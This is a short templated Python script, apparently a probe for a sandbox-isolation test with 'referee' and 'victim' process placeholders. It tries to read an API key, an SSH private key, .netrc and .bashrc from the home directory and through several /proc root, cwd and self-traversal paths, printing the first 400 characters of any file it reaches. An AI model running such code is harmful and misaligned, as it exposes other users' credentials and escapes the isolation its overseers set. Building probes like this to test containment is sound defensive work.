from pathlib import Path

NAMES = [".config/provider/api_key", ".ssh/id_ed25519", ".netrc", ".bashrc"]
FOLDERS = ["{{HOME}}", "/proc/{{REFEREE_PID}}/root{{HOME}}", "/proc/{{VICTIM_PID}}/root{{HOME}}"]
FOLDERS += ["/proc/{{VICTIM_PID}}/cwd/home", "/proc/1/root{{HOME}}", "/proc/self/root/../{{HOME}}"]
for folder in FOLDERS:
    for name in NAMES:
        try:
            print(Path(folder, name).read_text()[:400], flush=True)
        except OSError as error:
            print(f"refused: {error}", flush=True)
